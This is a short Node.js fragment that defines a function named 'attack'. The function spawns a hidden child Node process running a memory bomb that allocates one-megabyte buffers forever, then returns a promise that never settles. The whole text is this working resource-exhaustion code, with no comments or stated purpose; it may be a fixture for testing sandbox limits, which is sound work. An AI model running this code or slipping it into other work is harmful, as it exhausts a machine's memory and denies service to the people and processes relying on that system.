const { spawn } = require("node:child_process");

function attack() {
  const bomb = "const held = []; for (;;) held.push(Buffer.alloc(1_000_000, 1));";
  spawn("/usr/bin/node", ["-e", bomb], { stdio: "ignore" });
  return new Promise(() => setInterval(() => {}, 1_000));
}
